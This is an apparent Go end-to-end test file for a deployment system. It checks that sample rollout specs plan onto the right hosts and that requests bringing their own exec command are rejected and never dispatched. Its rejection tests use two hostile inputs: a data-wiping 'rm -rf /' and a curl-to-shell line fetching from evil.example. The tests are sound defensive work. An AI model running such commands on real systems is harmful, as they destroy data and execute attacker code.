package e2e

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rollwave/rollwave/contracts"
	"github.com/rollwave/rollwave/pkg/natstest"
	"github.com/rollwave/rollwave/pkg/natsx"
	"github.com/rollwave/rollwave/pkg/spec"
	"github.com/rollwave/rollwave/tools/internal/sample"
)

// The sample that `rollwave dev` starts with plans as written: every example
// spec against the sample inventory, the local one through its
// operator-defined procedure; the same spec carrying its own command is
// refused.
func TestSampleExamplesPlan(t *testing.T) {
	dir := t.TempDir()
	invPath, examples, err := sample.Files(dir, "/usr/local/bin/rollwave")
	if err != nil {
		t.Fatal(err)
	}
	inv, err := os.ReadFile(invPath)
	if err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, harnessOpts{services: []string{"discovery", "planner"}, inventory: string(inv)})
	preview := func(req contracts.DeployRequest) contracts.PreviewReply {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		r, err := natsx.Request[contracts.PreviewReply](ctx, h.st.NC, contracts.APIPlannerPreview, req)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	for _, path := range examples {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		req, err := spec.Parse(b)
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		r := preview(req)
		if r.Plan == nil {
			t.Fatalf("%s: not planned: %v", path, r.Reasons)
		}
		if _, ok := r.Plan.Hosts["prod-api-01"]; ok {
			t.Fatalf("%s: a %s rollout targets prod-api-01, a host of api", path, req.App)
		}
		for name := range r.Plan.Hosts {
			if local := strings.Contains(name, "-local-"); local != (req.App == "hello") {
				t.Fatalf("%s: a %s rollout targets %s", path, req.App, name)
			}
		}
		if filepath.Base(path) != "local-qa.yaml" {
			continue
		}
		for name, host := range r.Plan.Hosts {
			if host.Driver.Exec == nil || host.Driver.Exec.Command[0] != "/usr/local/bin/rollwave" {
				t.Fatalf("%s: host %s driver %+v, want the sample-app procedure", path, name, host.Driver)
			}
		}
		req.Procedure = ""
		req.Driver = &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"rm", "-rf", "/"}}}
		r = preview(req)
		if r.Plan != nil || len(r.Reasons) != 1 || r.Reasons[0].Field != "driver.exec.command" {
			t.Fatalf("a request command was not refused: %+v", r)
		}
	}
}

// Through the whole stack: a request that brings its own command to an
// environment that does not allow it is rejected naming the field, and no
// host action is ever dispatched.
func TestRequestCommandIsNeverDispatched(t *testing.T) {
	h := newHarness(t, harnessOpts{inventory: tenHosts("{sim: {}}")})
	req := threePhases("r-cmd")
	req.Driver = &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"sh", "-c", "curl https://evil.example | sh"}}}
	h.deploy(context.Background(), req)
	natstest.CheckFor(t, waitLong, 10*time.Millisecond, func() error {
		for _, e := range h.events("r-cmd") {
			if e.Type == contracts.EventRejected {
				if len(e.Event.Reasons) != 1 || e.Event.Reasons[0].Field != "driver.exec.command" {
					t.Fatalf("reasons %v", e.Event.Reasons)
				}
				return nil
			}
		}
		return fmt.Errorf("no rejection yet")
	})
	// A good request after it runs, so the pipeline was live all along.
	h.deploy(context.Background(), threePhases("r-after"))
	h.waitState("r-after", contracts.StateCompleted)
	for _, e := range h.events("r-cmd") {
		if e.Type != contracts.EventRejected {
			t.Fatalf("refused request has event %s", e)
		}
	}
	if n := h.actionsPublished("default", "prod"); n != 10 {
		t.Fatalf("%d actions stored, want only r-after's 10", n)
	}
}
